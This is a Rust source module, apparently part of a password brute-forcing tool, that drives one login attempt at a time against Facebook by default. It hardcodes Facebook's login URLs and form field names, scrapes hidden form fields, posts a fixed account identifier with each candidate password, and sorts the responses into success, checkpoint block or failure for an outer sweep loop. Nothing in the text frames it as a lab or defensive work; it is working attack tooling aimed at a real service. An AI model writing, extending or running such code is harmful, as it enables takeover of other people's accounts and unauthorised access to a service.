//! Single-attempt engine.
//!
//! Drives one authentication attempt: builds the login payload, issues the
//! POST through the owned session, and delegates the completed response to
//! the classifier. The engine never sleeps and never counts attempts; pacing
//! and budgets belong to the sweep loop.

use std::collections::HashMap;
use std::fs;
use std::io;
use std::path::{Path, PathBuf};

use async_trait::async_trait;
use chrono::Utc;
use serde::Deserialize;
use thiserror::Error;
use url::Url;

use crate::classify::{Classification, Classifier};
use crate::session::{HttpSession, TransportError};

pub mod form;

pub use form::{FormParseError, LoginFormHints, parse_login_form};

/// Outcome of one authentication attempt.
#[derive(Debug)]
pub enum AttemptResult {
    /// Credentials were accepted.
    Success,
    /// The service answered with a challenge/checkpoint interstitial.
    Blocked,
    /// Credentials were rejected.
    Failure,
    /// The request could not complete after retries.
    Transport(TransportError),
}

impl AttemptResult {
    pub fn is_success(&self) -> bool {
        matches!(self, AttemptResult::Success)
    }
}

impl From<Classification> for AttemptResult {
    fn from(classification: Classification) -> Self {
        match classification {
            Classification::Success => AttemptResult::Success,
            Classification::Blocked => AttemptResult::Blocked,
            Classification::Failure => AttemptResult::Failure,
        }
    }
}

/// The externally-owned endpoint contract, expressed as data: where the login
/// lives and how its form fields are named. The compiled-in default mirrors
/// the known target; a different target loads from JSON.
#[derive(Debug, Clone, Deserialize)]
pub struct TargetProfile {
    pub login_page_url: String,
    pub login_post_url: String,
    /// Form field carrying the account identifier.
    pub identifier_field: String,
    /// Form field carrying the candidate secret.
    pub secret_field: String,
    /// Form field stamped with client-side Unix seconds on every attempt.
    pub timestamp_field: String,
    /// Fixed fields sent verbatim: action marker, locale, timezone and the
    /// empty dimension/round-trip fields the endpoint expects.
    #[serde(default)]
    pub static_fields: HashMap<String, String>,
}

impl Default for TargetProfile {
    fn default() -> Self {
        let mut static_fields = HashMap::new();
        static_fields.insert("login".to_string(), "Log In".to_string());
        static_fields.insert("timezone".to_string(), "-480".to_string());
        static_fields.insert("lgndim".to_string(), String::new());
        static_fields.insert("lgnrnd".to_string(), String::new());
        static_fields.insert("locale".to_string(), "en_US".to_string());

        Self {
            login_page_url: "https://www.facebook.com/login.php".to_string(),
            login_post_url: "https://www.facebook.com/login.php?login_attempt=1".to_string(),
            identifier_field: "email".to_string(),
            secret_field: "pass".to_string(),
            timestamp_field: "lgnjs".to_string(),
            static_fields,
        }
    }
}

impl TargetProfile {
    pub fn from_json_file(path: impl AsRef<Path>) -> Result<Self, ProfileError> {
        let path = path.as_ref();
        let contents = fs::read_to_string(path).map_err(|source| ProfileError::Io {
            path: path.to_path_buf(),
            source,
        })?;
        serde_json::from_str(&contents).map_err(|source| ProfileError::InvalidJson {
            path: path.to_path_buf(),
            source,
        })
    }
}

#[derive(Debug, Error)]
pub enum ProfileError {
    #[error("I/O error reading target profile {path:?}: {source}")]
    Io { path: PathBuf, source: io::Error },
    #[error("target profile JSON invalid at {path:?}: {source}")]
    InvalidJson {
        path: PathBuf,
        source: serde_json::Error,
    },
}

/// Seam between the sweep loop and the attempt engine. Scripted drivers
/// stand in for the real engine in tests.
#[async_trait]
pub trait AttemptDriver: Send {
    /// One authentication request/response cycle for one candidate.
    async fn attempt(&mut self, candidate: &str) -> AttemptResult;
}

/// Real driver: owned session + injected classifier against one target.
pub struct AttemptEngine<C> {
    identifier: String,
    target: TargetProfile,
    session: HttpSession,
    classifier: C,
    hints: LoginFormHints,
}

impl<C: Classifier> AttemptEngine<C> {
    pub fn new(
        identifier: impl Into<String>,
        target: TargetProfile,
        session: HttpSession,
        classifier: C,
    ) -> Self {
        Self {
            identifier: identifier.into(),
            target,
            session,
            classifier,
            hints: LoginFormHints::default(),
        }
    }

    /// Optional pre-attempt hook: fetch the login page and remember the
    /// form's hidden fields and action. Failures degrade to an empty hint
    /// set; the sweep proceeds against the configured endpoint.
    pub async fn prefetch_login_form(&mut self) {
        match self.session.get(&self.target.login_page_url).await {
            Ok(response) => match form::parse_login_form(&response.text()) {
                Ok(hints) => {
                    log::debug!(
                        "login form parsed: {} hidden field(s), action {:?}",
                        hints.hidden_fields.len(),
                        hints.action
                    );
                    self.hints = hints;
                }
                Err(err) => log::warn!("could not parse login page: {}", err),
            },
            Err(err) => log::warn!("could not fetch login page: {}", err),
        }
    }

    /// The POST target: the parsed form action when present, otherwise the
    /// configured login POST URL.
    fn post_url(&self) -> String {
        Url::parse(&self.target.login_page_url)
            .ok()
            .and_then(|base| self.hints.resolve_action(&base))
            .map(|url| url.to_string())
            .unwrap_or_else(|| self.target.login_post_url.clone())
    }

    fn build_payload(&self, candidate: &str) -> HashMap<String, String> {
        let mut payload: HashMap<String, String> =
            self.hints.hidden_fields.iter().cloned().collect();
        payload.extend(
            self.target
                .static_fields
                .iter()
                .map(|(key, value)| (key.clone(), value.clone())),
        );
        payload.insert(self.target.identifier_field.clone(), self.identifier.clone());
        payload.insert(self.target.secret_field.clone(), candidate.to_string());
        payload.insert(
            self.target.timestamp_field.clone(),
            Utc::now().timestamp().to_string(),
        );
        payload
    }
}

#[async_trait]
impl<C: Classifier> AttemptDriver for AttemptEngine<C> {
    async fn attempt(&mut self, candidate: &str) -> AttemptResult {
        let payload = self.build_payload(candidate);
        let url = self.post_url();

        match self.session.post_form(&url, &payload).await {
            Ok(response) => {
                let body = response.text();
                self.classifier.classify(response.url(), &body).into()
            }
            Err(err) => AttemptResult::Transport(err),
        }
    }
}
